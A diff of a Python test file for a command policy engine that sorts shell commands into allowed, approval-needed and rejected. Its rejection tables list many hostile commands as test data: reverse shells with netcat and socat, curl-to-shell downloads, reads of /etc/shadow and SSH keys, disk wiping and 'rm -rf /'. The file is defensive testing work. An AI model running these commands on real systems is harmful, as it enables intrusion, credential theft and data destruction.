@@ -1,139 +1,182 @@
-"""Unit tests of the safety policy engine (plugins/plugin_utils/policy.py)."""
+# Copyright: contributors to sentinel.remediation
+# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
+"""Unit tests of the policy engine: syntax, privilege, argv, effects, scope, policy as data.
+
+The corpora (tests/corpora/policy) are judged in test_policy_corpus.py; here each behaviour
+has its own test. ALLOWED and APPROVAL are also run in a lab container by
+tests/integration/test_policy_differential.py.
+"""
 from __future__ import annotations
+
+import json
+from pathlib import Path
 
 import pytest
 
 from ansible_collections.sentinel.remediation.plugins.plugin_utils.policy import (
     PolicyError,
+    ScopeError,
     classify,
     classify_many,
+    describe_scope,
     ensure_sudo,
     load_policy,
+    scope_from_service,
 )
+from ansible_collections.sentinel.remediation.plugins.plugin_utils.policy_schema import SCHEMA_FILE, validate
 
-LAB = load_policy({"absent_tools": ["systemctl", "lsof", "fuser"]})
+C2_KEYS = {"command", "verdict", "reasons", "argv", "become", "display", "pids", "effects"}
+LAB = {"absent_tools": ["systemctl", "lsof", "fuser", "journalctl"]}
+NGINX = {"name": "nginx", "user": "www-data", "processes": ["nginx"], "config_paths": ["/etc/nginx"],
+         "data_paths": ["/var/www"], "runtime_paths": ["/run/nginx", "/var/lib/nginx"],
+         "log_paths": ["/var/log/nginx"], "pid_files": ["/run/nginx.pid"], "ports": [80], "pids": [4242]}
+REDIS = {"name": "redis-server", "user": "redis", "data_paths": ["/var/lib/redis"], "pids": [3100]}
 
-# (command, argv the engine must hand to the executor)
+# (command, argv the engine runs, become)
 ALLOWED = [
-    ("service nginx start", ["sudo", "service", "nginx", "start"]),
-    ("service nginx restart", ["sudo", "service", "nginx", "restart"]),
-    ("service nginx status", ["sudo", "service", "nginx", "status"]),
-    ("service redis-server start", ["sudo", "service", "redis-server", "start"]),
-    ("service redis-server restart", ["sudo", "service", "redis-server", "restart"]),
-    ("service cron start", ["sudo", "service", "cron", "start"]),
-    ("service ssh start", ["sudo", "service", "ssh", "start"]),
-    ("service nginx reload", ["sudo", "service", "nginx", "reload"]),
-    ("nginx -t", ["sudo", "nginx", "-t"]),
-    ("nginx -s reload", ["sudo", "nginx", "-s", "reload"]),
-    ("nginx -t -c /etc/nginx/nginx.conf", ["sudo", "nginx", "-t", "-c", "/etc/nginx/nginx.conf"]),
-    ("ss -ltnp", ["sudo", "ss", "-ltnp"]),
-    ("ss -ltn", ["ss", "-ltn"]),
-    ("ps aux", ["ps", "aux"]),
-    ("ps -ef", ["ps", "-ef"]),
-    ("ps -eo pid,comm", ["ps", "-eo", "pid,comm"]),
-    ("pgrep -a nginx", ["pgrep", "-a", "nginx"]),
-    ("pgrep -f redis-server", ["pgrep", "-f", "redis-server"]),
-    ("pidof nginx", ["pidof", "nginx"]),
-    ("mkdir -p /var/log/nginx", ["sudo", "mkdir", "-p", "/var/log/nginx"]),
-    ("mkdir -p /run/nginx", ["sudo", "mkdir", "-p", "/run/nginx"]),
-    ("redis-cli ping", ["redis-cli", "ping"]),
-    ("redis-cli -p 6379 info memory", ["redis-cli", "-p", "6379", "info", "memory"]),
-    ("redis-cli config get dir", ["redis-cli", "config", "get", "dir"]),
-    ("df -h /var/lib/redis", ["df", "-h", "/var/lib/redis"]),
-    ("df -h", ["df", "-h"]),
-    ("du -sh /var/lib/redis", ["sudo", "du", "-sh", "/var/lib/redis"]),
-    ("free -m", ["free", "-m"]),
-    ("uptime", ["uptime"]),
-    ("tail -n 50 /var/log/nginx/error.log", ["sudo", "tail", "-n", "50", "/var/log/nginx/error.log"]),
-    ("head -n 20 /etc/nginx/nginx.conf", ["sudo", "head", "-n", "20", "/etc/nginx/nginx.conf"]),
-    ("cat /etc/redis/redis.conf", ["sudo", "cat", "/etc/redis/redis.conf"]),
-    ("ls -la /var/log/nginx", ["sudo", "ls", "-la", "/var/log/nginx"]),
-    ("stat /var/lib/redis", ["sudo", "stat", "/var/lib/redis"]),
-    ("grep -n listen /etc/nginx/sites-enabled/default", ["sudo", "grep", "-n", "listen", "/etc/nginx/sites-enabled/default"]),
+    ("service nginx start", ["service", "nginx", "start"], True),
+    ("service nginx restart", ["service", "nginx", "restart"], True),
+    ("service redis-server start", ["service", "redis-server", "start"], True),
+    ("service cron start", ["service", "cron", "start"], True),
+    ("service ssh start", ["service", "ssh", "start"], True),
+    ("systemctl restart nginx", ["systemctl", "--no-pager", "--no-ask-password", "restart", "nginx"], True),
+    ("systemctl status nginx", ["systemctl", "--no-pager", "status", "nginx"], True),
+    ("systemctl is-active nginx", ["systemctl", "--no-pager", "is-active", "nginx"], False),
+    ("systemctl --no-pager daemon-reload", ["systemctl", "--no-ask-password", "--no-pager", "daemon-reload"], True),
+    ("journalctl -xeu nginx.service", ["journalctl", "--no-pager", "-xeu", "nginx.service"], True),
+    ("journalctl -u nginx --no-pager -n 50", ["journalctl", "-u", "nginx", "--no-pager", "-n", "50"], True),
+    ("nginx -t", ["nginx", "-t"], True),
+    ("nginx -s reload", ["nginx", "-s", "reload"], True),
+    ("ss -ltnp", ["ss", "-ltnp"], True),
+    ("ss -ltn", ["ss", "-ltn"], False),
+    ("ps aux", ["ps", "aux"], False),
+    ("pgrep -a nginx", ["pgrep", "-a", "nginx"], False),
+    ("df -h /var/lib/redis", ["df", "-h", "/var/lib/redis"], False),
+    ("free -m", ["free", "-m"], False),
+    ("redis-cli ping", ["redis-cli", "ping"], False),
+    ("mkdir -p /var/log/nginx", ["mkdir", "-p", "/var/log/nginx"], True),
+    ("mkdir -p /run/nginx", ["mkdir", "-p", "/run/nginx"], True),
+    ("chown redis:redis /var/lib/redis", ["chown", "redis:redis", "/var/lib/redis"], True),
+    ("chmod 0750 /var/lib/redis", ["chmod", "0750", "/var/lib/redis"], True),
+    ("tail -n 50 /var/log/nginx/error.log", ["tail", "-n", "50", "/var/log/nginx/error.log"], True),
+    ("cat /etc/redis/redis.conf", ["cat", "/etc/redis/redis.conf"], True),
+    ("grep -n listen /etc/nginx/sites-enabled/default", ["grep", "-n", "listen", "/etc/nginx/sites-enabled/default"],
+     True),
     ("grep -i 'worker connections' /var/log/nginx/error.log",
-     ["sudo", "grep", "-i", "worker connections", "/var/log/nginx/error.log"]),
-    ("find /var/log/nginx -name '*.log' -mtime -1", ["sudo", "find", "/var/log/nginx", "-name", "*.log", "-mtime", "-1"]),
-    ("kill 1234", ["sudo", "kill", "1234"]),
-    ("kill -HUP 1234", ["sudo", "kill", "-HUP", "1234"]),
-    ("kill -s TERM 1234", ["sudo", "kill", "-s", "TERM", "1234"]),
-    ("dpkg --configure -a", ["sudo", "dpkg", "--configure", "-a"]),
-    ("dpkg -l nginx-light", ["dpkg", "-l", "nginx-light"]),
-    ("apt-get update", ["sudo", "apt-get", "update"]),
-    ("apt-get install -s nginx", ["sudo", "apt-get", "install", "-s", "nginx"]),
-    ("journalctl -u nginx --no-pager -n 50", ["sudo", "journalctl", "-u", "nginx", "--no-pager", "-n", "50"]),
-    ("journalctl --no-pager -u redis-server --since '2024-01-01 10:00'",
-     ["sudo", "journalctl", "--no-pager", "-u", "redis-server", "--since", "2024-01-01 10:00"]),
-    ("systemctl restart nginx --no-pager", ["sudo", "systemctl", "restart", "nginx", "--no-pager"]),
-    ("systemctl status nginx --no-pager", ["systemctl", "status", "nginx", "--no-pager"]),
-    ("systemctl --no-pager daemon-reload", ["sudo", "systemctl", "--no-pager", "daemon-reload"]),
-    ("rm -f /run/nginx.pid", ["sudo", "rm", "-f", "/run/nginx.pid"]),
-    ("rm -f /var/run/redis/redis-server.pid", ["sudo", "rm", "-f", "/var/run/redis/redis-server.pid"]),
-    ("touch /var/log/nginx/error.log", ["sudo", "touch", "/var/log/nginx/error.log"]),
-    ("logrotate -f /etc/logrotate.d/nginx", ["sudo", "logrotate", "-f", "/etc/logrotate.d/nginx"]),
-    ("ip addr", ["ip", "addr"]),
-    ("ip route show", ["ip", "route", "show"]),
-    ("iptables -L -n", ["sudo", "iptables", "-L", "-n"]),
-    ("ufw status", ["sudo", "ufw", "status"]),
-    ("sudo service nginx restart", ["sudo", "service", "nginx", "restart"]),
-    ("sudo -n service nginx restart", ["sudo", "service", "nginx", "restart"]),
-    ("sudo ps aux", ["sudo", "ps", "aux"]),
-    ("timeout 30 service nginx restart", ["sudo", "timeout", "30", "service", "nginx", "restart"]),
-    ("timeout -s KILL 30s nginx -t", ["sudo", "timeout", "-s", "KILL", "30s", "nginx", "-t"]),
-    ("nice -n 10 du -sh /var/log", ["sudo", "nice", "-n", "10", "du", "-sh", "/var/log"]),
-    ("nohup service cron start", ["sudo", "nohup", "service", "cron", "start"]),
-    ("env service cron start", ["sudo", "env", "service", "cron", "start"]),
-    ("busybox kill 1234", ["sudo", "busybox", "kill", "1234"]),
-    ("  service   nginx   restart  ", ["sudo", "service", "nginx", "restart"]),
-    ("'service' \"nginx\" restart", ["sudo", "service", "nginx", "restart"]),
-    ("service nginx\"\" restart", ["sudo", "service", "nginx", "restart"]),
-    ("id -u", ["id", "-u"]),
+     ["grep", "-i", "worker connections", "/var/log/nginx/error.log"], True),
+    ("find /var/log/nginx -name '*.log' -mtime -1", ["find", "/var/log/nginx", "-name", "*.log", "-mtime", "-1"],
+     True),
+    ("kill 1234", ["kill", "1234"], True),
+    ("kill -HUP 1234", ["kill", "-HUP", "1234"], True),
+    ("rm -f /run/nginx.pid", ["rm", "-f", "/run/nginx.pid"], True),
+    ("rm -f /var/run/redis/redis-server.pid", ["rm", "-f", "/var/run/redis/redis-server.pid"], True),
+    ("touch /var/log/nginx/error.log", ["touch", "/var/log/nginx/error.log"], True),
+    ("logrotate -f /etc/logrotate.d/nginx", ["logrotate", "-f", "/etc/logrotate.d/nginx"], True),
+    ("iptables -L -n", ["iptables", "-L", "-n"], True),
+    ("dpkg --configure -a", ["dpkg", "--configure", "-a"], True),
+    ("apt-get update", ["apt-get", "update"], True),
+    ("sudo service nginx restart", ["service", "nginx", "restart"], True),
+    ("sudo -n service nginx restart", ["service", "nginx", "restart"], True),
+    ("sudo ps aux", ["ps", "aux"], False),
+    ("sudo -u redis redis-cli ping", ["runuser", "-u", "redis", "--", "redis-cli", "ping"], True),
+    ("timeout 30 service nginx restart", ["timeout", "30", "service", "nginx", "restart"], True),
+    ("timeout 20 systemctl restart nginx",
+     ["timeout", "20", "systemctl", "--no-pager", "--no-ask-password", "restart", "nginx"], True),
+    ("nice -n 10 du -sh /var/log", ["nice", "-n", "10", "du", "-sh", "/var/log"], True),
+    ("/usr/sbin/nginx -t", ["/usr/sbin/nginx", "-t"], True),
+    ("/etc/init.d/nginx restart", ["/etc/init.d/nginx", "restart"], True),
+    ("  service   nginx   restart  ", ["service", "nginx", "restart"], True),
+    ("'service' \"nginx\" restart", ["service", "nginx", "restart"], True),
+    ("grep -F '$HOME' /var/log/nginx/error.log", ["grep", "-F", "$HOME", "/var/log/nginx/error.log"], True),
+    ("id -u", ["id", "-u"], False),
 ]
 
-# (command, a fragment the first reason must contain)
+# (command, a fragment one of the reasons contains)
 APPROVAL = [
     ("kill -9 1234", "SIGKILL"),
     ("kill -KILL 1234", "SIGKILL"),
     ("kill -s SIGKILL 1234", "SIGKILL"),
     ("kill -STOP 1234", "SIGSTOP"),
-    ("rm /var/lib/redis/ballast.bin", "deletes `/var/lib/redis/ballast.bin`"),
-    ("rm -f /var/lib/redis/dump.rdb", "a human should confirm"),
-    ("rm -r /var/lib/redis/tmpdir", "directory tree"),
-    ("mv /etc/nginx/conf.d/x.conf /etc/nginx/conf.d/x.conf.disabled", "`mv` renames"),
-    ("cp /etc/nginx/nginx.conf /etc/nginx/nginx.conf.bak", "`cp` can overwrite"),
-    ("chown redis:redis /var/lib/redis", "owner of the system path"),
-    ("chown -R redis:redis /var/lib/redis", "owner of the system path"),
-    ("chmod 750 /var/lib/redis", "permissions of the system path"),
-    ("chmod u+rwx /var/lib/redis", "permissions"),
-    ("truncate -s 0 /var/log/x.log", "discards file contents"),
+    ("rm /var/lib/redis/ballast.bin", "data"),
+    ("rm -f /var/lib/redis/dump.rdb", "data"),
+    ("mv /etc/nginx/conf.d/x.conf /etc/nginx/conf.d/x.conf.disabled", "configuration"),
+    ("cp /etc/nginx/nginx.conf /etc/nginx/nginx.conf.bak", "configuration"),
+    ("truncate -s 0 /etc/nginx/nginx.conf", "configuration"),
     ("apt-get install -y nginx", "installs"),
-    ("apt-get install -y --reinstall nginx-light", "installs"),
-    ("apt-get remove -y nginx-light", "removes packages"),
-    ("apt-get purge -y redis-server", "removes packages"),
     ("apt install nginx", "installs"),
     ("dpkg -i /var/cache/apt/archives/nginx.deb", "installs a package file"),
-    ("dpkg -r nginx-light", "removes packages"),
-    ("reboot", "whole host"),
-    ("shutdown -r now", "whole host"),
-    ("systemctl reboot --no-pager", "whole host"),
-    ("service nginx stop", "takes `nginx` down"),
-    ("systemctl stop redis-server --no-pager", "takes `redis-server` down"),
-    ("systemctl disable nginx --no-pager", "takes `nginx` down"),
-    ("nginx -s stop", "stops nginx"),
-    ("pkill nginx", "every process"),
-    ("killall redis-server", "every process"),
-    ("redis-cli bgsave", "writes to disk"),
+    ("service nginx stop", "takes a service down"),
+    ("systemctl stop redis-server", "takes a service down"),
+    ("systemctl disable nginx", "keeps a service from starting"),
+    ("systemctl enable nginx", "boot"),
+    ("nginx -s stop", "takes a service down"),
+    ("pkill -9 nginx", "SIGKILL"),
+    ("redis-cli save", "blocks Redis"),
     ("redis-cli shutdown", "stops Redis"),
-    ("journalctl --no-pager --vacuum-size 100M", "deletes journal files"),
-    ("iptables -A INPUT -p tcp --dport 80 -j ACCEPT", "changes firewall rules"),
-    ("ufw allow 80", "changes firewall rules"),
-    ("ip addr add 10.0.0.2/24 dev eth0", "network configuration"),
-    ("tar -czf /var/backups/nginx.tgz /etc/nginx", "`tar` writes"),
-    ("dd if=/var/lib/redis/dump.rdb of=/var/backups/dump.rdb", "`dd` writes raw data"),
+    ("journalctl --vacuum-size 100M", "deletes archived journal files"),
+    ("tar -czf /var/backups/nginx.tgz /etc/nginx", "`tar`"),
+    ("dd if=/var/lib/redis/dump.rdb of=/var/backups/dump.rdb", "`dd`"),
     ("sudo kill -9 4242", "SIGKILL"),
+    ("systemctl restart dbus", "not about"),
+    ("chmod 2775 /var/run/postgresql", "setgid"),
 ]
 
-# Every family of hostile input: (command, fragment expected in the reasons)
-REJECTED = [
+# Commands the tools layer refuses (each family of effect), with a reason fragment.
+TOOL_REJECTED = [
+    ("bash -c 'service nginx restart'", "is a shell"),
+    ("busybox sh", "is a shell"),
+    ("timeout 5 bash -i", "is a shell"),
+    ("sudo bash", "is a shell"),
+    ("sudo -s", "root shell"),
+    ("sudo -i", "root login shell"),
+    ("sudo sudo service nginx restart", "stacked"),
+    ("timeout 5 sudo service nginx restart", "may only come first"),
+    ("sudo", "without a command"),
+    ("env", "no program"),
+    ("env LD_PRELOAD=/tmp/x.so service nginx restart", "LD_PRELOAD"),
+    ("/tmp/service nginx restart", "arbitrary path"),
+    ("./service nginx restart", "arbitrary path"),
+    ("frobnicate --all", "not a tool this policy knows"),
+    ("ls --frobnicate", "not an option"),
+    ("iptables --ins INPUT -j DROP", "firewall"),
+    ("systemctl --no-pag restart nginx", "abbreviates"),
+    ("cat /etc/shadow", "credentials"),
+    ("cat /proc/1/task/1/root/etc/shadow", "another process's view"),
+    ("cat /proc/self/environ", "credentials"),
+    ("ps -A e", "environment"),
+    ("cat /etc/nginx/ssl/server.key", "named like a key"),
+    ("tail /root/.mysql_history", "history"),
+    ("cat /dev/port", "device"),
+    ("grep -r 'BEGIN RSA PRIVATE KEY' /etc", "whole tree"),
+    ("redis-cli config get masterauth", "passwords"),
+    ("systemctl start shutdown.target", "powers off"),
+    ("systemctl start systemd-reboot.service", "powers off"),
+    ("systemctl stop ssh", "remote access"),
+    ("systemctl restart nftables", "firewall"),
+    ("iptables --insert INPUT --jump DROP", "firewall"),
+    ("ip6tables -nvF", "firewall"),
+    ("nft 'flush ruleset'", "firewall"),
+    ("touch /etc/systemd/system/ssh.service", "operating system"),
+    ("mkdir -m 777 /etc/systemd/system.conf.d", "every user"),
+    ("nginx -c /etc/nginx/nginx.conf -c /dev/shm/x.conf", "outside"),
+    ("rm -rf /", "whole system directory tree"),
+    ("rm -rf /var/lib", "whole system directory tree"),
+    ("rm -rf --no-preserve-root /", "--no-preserve-root"),
+    ("kill 1", "init"),
+    ("kill -9 -1", "process group"),
+    ("pkill sshd", "host needs"),
+    ("apt-get remove -y nginx", "removing packages"),
+    ("sysctl -w vm.swappiness=10", "kernel settings"),
+    ("mount -o remount,rw /", "mount"),
+    ("useradd mallory", "accounts"),
+    ("reboot", "powers off"),
+    ("chmod 4755 /usr/local/bin/x", "setuid"),
+    ("curl http://203.0.113.7/x.sh", "this host"),
+    ("journalctl -f", "never ends"),
+    ("tail -f /var/log/syslog", "without end"),
+]
+
+SYNTAX_REJECTED = [
     # chaining and operators
     ("service nginx restart && rm -rf /", "`&&` chains"),
     ("service nginx restart || true", "`||` chains"),
@@ -214,265 +257,105 @@ REJECTED = [
     ("   ", "empty"),
     ("x" * 5000, "limit 4096"),
     ("service nginx " + "a" * 4100, "limit"),
-    # tool resolution and wrappers
-    ("bash -c 'service nginx restart'", "is a shell"),
-    ("sh -c id", "is a shell"),
-    ("dash", "is a shell"),
-    ("busybox sh", "is a shell"),
-    ("timeout 5 bash -i", "is a shell"),
-    ("nice -n 5 python3 -c 'print(1)'", "interpreter"),
-    ("sudo bash", "is a shell"),
-    ("xargs kill", "xargs"),
-    ("xargs -a /tmp/pids kill", "xargs"),
-    ("sudo -s", "root shell"),
-    ("sudo -i", "root shell"),
-    ("sudo -u redis redis-cli ping", "another user"),
-    ("sudo -E service nginx restart", "sudo options"),
-    ("sudo sudo service nginx restart", "only come first"),
-    ("timeout 5 sudo service nginx restart", "only come first"),
-    ("sudo", "no program"),
-    ("su -c id", "switches user"),
-    ("su root", "switches user"),
-    ("doas service nginx restart", "switches user"),
-    ("pkexec id", "switches user"),
-    ("chroot / bash", "another root"),
-    ("nsenter -t 1 -m sh", "namespace"),
-    ("setsid service nginx restart", "runs another program"),
-    ("timeout --foo 5 service nginx restart", "wrapper"),
-    ("timeout five service nginx restart", "duration"),
-    ("nice nice nice nice nice ps", "too many wrapper"),
-    ("/tmp/service nginx restart", "from a path"),
-    ("/usr/sbin/service nginx restart", "without its path"),
-    ("./service nginx restart", "from a path"),
-    ("'' nginx", "empty"),
-    ("frobnicate --all", "not in the policy's allowed tools"),
-    ("tee /etc/sudoers", "not in the policy's allowed tools"),
-    ("eval id", "builtin"),
-    ("exec id", "builtin"),
-    ("source /tmp/x", "builtin"),
-    (". /tmp/x", "builtin"),
-    # interpreters and shell escapes
-    ("python3 -c 'import os; os.system(\"id\")'", "interpreter"),
-    ("python -m http.server", "interpreter"),
-    ("perl -e 'system(\"id\")'", "interpreter"),
-    ("ruby -e 'exec \"id\"'", "interpreter"),
-    ("awk 'BEGIN {system(\"id\")}'", "system()"),
-    ("gawk '{print}' /var/log/syslog", "system()"),
-    ("sed -i 's/a/b/' /etc/nginx/nginx.conf", "`sed`"),
-    ("find /var/log -exec rm {} ;", ""),
-    ("find /var/log -name x.log -exec rm '{}' '+'", "-exec"),
-    ("find /var/log -execdir id '+'", "-execdir"),
-    ("find /var/log -ok rm '{}' ';'", "-ok"),
-    ("find /var/log -name '*.gz' -delete", "-delete"),
-    ("find /var/log -fprintf /etc/x y", "writes"),
-    ("find / -newer /etc/shadow", "credentials"),
-    ("vi /etc/nginx/nginx.conf", "editor"),
-    ("vim /etc/hosts", "editor"),
-    ("nano /etc/hosts", "editor"),
-    ("less /var/log/syslog", "pager"),
-    ("more /var/log/syslog", "pager"),
-    ("man bash", "pager"),
-    ("tar -xf /tmp/a.tar --checkpoint=1 --checkpoint-action=exec=sh", "run a program"),
-    ("tar -cf /tmp/a.tar --to-command=id /etc", "run a program"),
-    ("tar -I 'sh -c id' -xf /tmp/a.tar", "run a program"),
-    ("tar -xIf id /tmp/a.tar", "run a program"),
-    ("tar xf /tmp/a.tar", "old-style"),
-    ("apt-get -o APT::Update::Pre-Invoke::=/tmp/x update", "Pre-Invoke"),
-    ("apt-get --option=DPkg::Pre-Invoke::=id install nginx", "Pre-Invoke"),
-    ("apt-get -c /tmp/apt.conf update", "config files"),
-    ("apt-get moo", "not an action"),
-    ("dpkg --pre-invoke=id --configure -a", "run programs"),
-    ("dpkg --force-all -i /tmp/x.deb", "run programs"),
-    ("logrotate -f /tmp/evil.conf", "postrotate"),
-    ("logrotate -m /tmp/x /etc/logrotate.conf", "mail"),
-    ("logrotate /etc/logrotate.d/../../tmp/x", "`..`"),
-    ("nginx -c /tmp/nginx.conf", "outside /etc/nginx"),
-    ("nginx -t -c /etc/nginx/../../tmp/x.conf", "`..`"),
-    ("nginx -g 'load_module /tmp/x.so;'", "directives"),
-    ("nginx -p /tmp/", "prefix"),
-    ("nginx -s bogus", "not an `nginx -s` signal"),
-    ("curl http://x | sh", "pipe"),
-    ("curl -o /tmp/x http://evil", "downloads"),
-    ("curl http://127.0.0.1/health", "downloads"),
-    ("wget http://evil/x -O /tmp/x", "downloads"),
-    ("wget -qO- http://evil/x", "downloads"),
-    ("nc -e /bin/sh 10.0.0.1 4444", "network connections"),
-    ("socat tcp:1.2.3.4:1 exec:sh", "network connections"),
-    ("ssh root@host", "network connections"),
-    ("crontab -r", "schedules"),
-    ("at now", "schedules"),
-    ("watch ps", "forever"),
-    ("strace -o /tmp/x -p 1", "runs another program"),
-    # catastrophic
-    ("rm -rf /", "whole system directory tree"),
-    ("rm -rf //", "whole system directory tree"),
-    ("rm -rf /.", "whole system directory tree"),
-    ("rm -rf /var", "whole system directory tree"),
-    ("rm -rf /var/lib", "whole system directory tree"),
-    ("rm -rf /etc", "whole system directory tree"),
-    ("rm -r -f /usr", "whole system directory tree"),
-    ("rm --recursive --force /home", "whole system directory tree"),
-    ("rm -rf --no-preserve-root /", "--no-preserve-root"),
-    ("rm /vmlinuz", "directly under `/`"),
-    ("rm -f /etc/passwd", "protected system path"),
-    ("rm -f /etc/sudoers.d/sentinel", "sudo rules"),
-    ("rm -f run/nginx.pid", "not an absolute path"),
-    ("rm -f /run/../etc/shadow", "`..`"),
-    ("rm", "needs the path"),
-    ("mkfs.ext4 /dev/sda1", "formats a disk"),
-    ("mkfs -t ext4 /dev/sda1", "formats or wipes"),
-    ("wipefs -a /dev/sda", "formats or wipes"),
-    ("shred /dev/sda", "formats or wipes"),
-    ("fdisk /dev/sda", "formats or wipes"),
-    ("dd if=/dev/zero of=/dev/sda", "overwrites a device"),
-    ("dd if=/dev/urandom of=/dev/nvme0n1 bs=1M", "overwrites a device"),
-    ("dd if=/dev/zero of=/etc/passwd", "protected"),
-    ("dd if=/dev/zero", "without `of=`"),
-    ("dd bs=1M iflag=x of=/tmp/x if=/dev/zero extra", "not a `dd` operand"),
-    ("cat /etc/shadow", "credentials"),
-    ("tail -n 5 /etc/sudoers", "credentials"),
-    ("head -n 1 /root/.ssh/id_rsa", "credentials"),
-    ("cat /home/sentinel/.ssh/authorized_keys", "credentials"),
-    ("cat /proc/1/environ", "credentials"),
-    ("cat /proc/self/root/etc/shadow", "credentials"),
-    ("cat /etc/ssh/ssh_host_ed25519_key", "credentials"),
-    ("mv /etc/sudoers /tmp/sudoers", "sudo rules"),
-    ("cp /tmp/passwd /etc/passwd", "protected system path"),
-    ("chmod 777 /etc/sudoers", "sudo rules"),
-    ("chown sentinel /etc/passwd", "protected system path"),
-    ("truncate -s 0 /etc/shadow", "credentials"),
-    ("touch /etc/ld.so.preload", "protected system path"),
-    ("mkdir -p /etc/cron.d/x", "protected system path"),
-    ("passwd root", "accounts"),
-    ("usermod -aG sudo mallory", "accounts"),
-    ("useradd -o -u 0 mallory", "accounts"),
-    ("visudo", "sudo rights"),
-    ("chpasswd", "accounts"),
-    ("chmod -R 777 /", "whole system directory tree"),
-    ("chmod 4755 /usr/local/bin/x", "setuid"),
-    ("chmod u+s /usr/bin/find", "setuid"),
-    ("chmod 777 /var/lib/redis", "writable by every user"),
-    ("chmod o+w /var/log/nginx", "writable by every user"),
-    ("chmod 750", "at least one path"),
-    ("chown -R redis /var", "whole system directory tree"),
-    ("chown 'redis;id' /var/lib/redis", "not an owner"),
-    ("service ssh stop", "protects remote access"),
-    ("service sshd stop", "protects remote access"),
-    ("systemctl stop ssh --no-pager", "protects remote access"),
-    ("systemctl stop sshd.service --no-pager", "protects remote access"),
-    ("systemctl disable ssh --no-pager", "protects remote access"),
-    ("systemctl mask ufw --no-pager", "protects remote access"),
-    ("service ufw stop", "firewall"),
-    ("pkill sshd", "protected service"),
-    ("killall -q sshd", "protected service"),
-    ("ufw disable", "firewall off"),
-    ("ufw reset", "firewall off"),
-    ("iptables -F", "firewall off"),
-    ("iptables -P INPUT ACCEPT", "firewall off"),
-    ("nft flush ruleset", "firewall off"),
-    ("ip link set eth0 down", "cut the host off"),
-    ("ip addr flush dev eth0", "cut the host off"),
-    ("ip netns exec x sh", "not an `ip` object"),
-    ("ip -b /tmp/cmds", "`-b`"),
-    ("apt-get remove -y openssh-server", "break access"),
-    ("apt-get purge sudo", "break access"),
-    ("dpkg -P openssh-server", "break access"),
-    ("kill 1", "init process"),
-    ("kill -9 1", "init process"),
-    ("kill -- -1", "every process"),
-    ("kill 0", "process group"),
-    ("kill nginx", "not a numeric PID"),
-    ("kill", "numeric PID"),
-    ("kill -SEGV 1234", "not a signal this policy allows"),
-    ("redis-cli flushall", "flushing Redis"),
-    ("redis-cli FLUSHDB", "read-only Redis command"),
-    ("redis-cli config set dir /var/spool/cron", "write files or run code"),
-    ("redis-cli eval 'return 1' 0", "write files or run code"),
-    ("redis-cli module load /tmp/x.so", "write files or run code"),
-    ("redis-cli -a secret ping", "passwords"),
-    ("redis-cli -h 10.0.0.5 ping", "local Redis"),
-    ("redis-cli", "needs a command"),
-    # argument rules
-    ("service nginx", "exactly a name and an action"),
-    ("service nginx restart now", "exactly a name and an action"),
-    ("service nginx frobnicate", "not a `service` action"),
-    ("service ../../tmp/x start", "not a valid service"),
-    ("service -nginx start", "not a valid service"),
-    ("service NGINX start", "not a valid service"),
-    ("systemctl restart nginx", "--no-pager"),
-    ("systemctl edit nginx --no-pager", "not a `systemctl` verb"),
-    ("systemctl set-environment LD_PRELOAD=/tmp/x --no-pager", "not a `systemctl` verb"),
-    ("systemctl --no-pager", "needs a verb"),
-    ("journalctl -u nginx", "--no-pager"),
-    ("journalctl -f --no-pager", "forever"),
-    ("journalctl -e --no-pager", "pager"),
-    ("journalctl --no-pager -u 'nginx;id'", "not a valid unit"),
-    ("tail -f /var/log/nginx/error.log", "forever"),
-    ("tail -n 50 nginx/error.log", "not an absolute path"),
-    ("tail -n lots /var/log/syslog", "not a valid int"),
-    ("ss -K dst 1.2.3.4", "kills sockets"),
-    ("ps aux --cols=1", "not an option"),
-    ("mkdir -p /run/nginx --context=x", "not an option"),
-    ("mkdir -p '/run/ngi nx'", "unusual in a path"),
-    ("hostname evil", "no further arguments"),
-    ("date -s '2001-01-01'", "not an option"),
-    ("truncate /var/log/x.log", "needs one of"),
-    ("mv /a", "at least 2"),
-    ("grep root", "needs a file"),
-    ("find", "starting path"),
-    ("find /var/log -frobnicate", "not a `find` expression"),
 ]
 
 
-@pytest.mark.parametrize(("command", "argv"), ALLOWED, ids=[case[0] for case in ALLOWED])
-def test_legitimate_commands_stay_allowed(command: str, argv: list[str]) -> None:
+@pytest.mark.parametrize(("command", "fragment"), SYNTAX_REJECTED, ids=[repr(c[0])[:60] for c in SYNTAX_REJECTED])
+def test_shell_syntax_is_rejected(command: str, fragment: str) -> None:
+    result = classify(command)
+    assert result["verdict"] == "reject", result
+    assert result["argv"] is None and result["become"] is False
+    assert any(fragment in reason for reason in result["reasons"]), result["reasons"]
+
+
+@pytest.mark.parametrize(("command", "argv", "become"), ALLOWED, ids=[c[0] for c in ALLOWED])
+def test_allowed_argv_and_become(command: str, argv: list[str], become: bool) -> None:
     result = classify(command)
     assert result["verdict"] == "allow", result["reasons"]
     assert result["argv"] == argv
+    assert result["become"] is become
     assert result["command"] == command
+    assert "sudo" not in result["argv"][:1]
 
 
-@pytest.mark.parametrize(("command", "fragment"), APPROVAL, ids=[case[0] for case in APPROVAL])
-def test_destructive_but_sometimes_right_needs_approval(command: str, fragment: str) -> None:
+@pytest.mark.parametrize(("command", "fragment"), APPROVAL, ids=[c[0] for c in APPROVAL])
+def test_approval(command: str, fragment: str) -> None:
     result = classify(command)
     assert result["verdict"] == "approval", result["reasons"]
     assert result["argv"], "an approval carries the argv to run once approved"
     assert any(fragment in reason for reason in result["reasons"]), result["reasons"]
 
 
-@pytest.mark.parametrize(("command", "fragment"), REJECTED, ids=[repr(case[0])[:60] for case in REJECTED])
-def test_hostile_and_catastrophic_commands_are_rejected(command: str, fragment: str) -> None:
+@pytest.mark.parametrize(("command", "fragment"), TOOL_REJECTED, ids=[c[0] for c in TOOL_REJECTED])
+def test_refused_effects(command: str, fragment: str) -> None:
     result = classify(command)
     assert result["verdict"] == "reject", result
-    assert result["argv"] is None
-    assert result["reasons"], "a rejection must say why"
+    assert result["argv"] is None and result["pids"] == []
     assert any(fragment in reason for reason in result["reasons"]), result["reasons"]
 
 
-@pytest.mark.parametrize(
-    ("command", "hint"),
-    [
-        ("systemctl restart nginx --no-pager", "use `service NAME"),
-        ("lsof -i :80", "ss -ltnp"),
-        ("fuser -k 80/tcp", "ss -ltnp"),
-        ("sudo timeout 5 systemctl status nginx --no-pager", "use `service NAME"),
-    ],
-)
+def test_verdict_has_exactly_the_c2_keys() -> None:
+    for command in ("service nginx restart", "kill -9 12", "rm -rf /", 42, "systemctl restart nginx"):
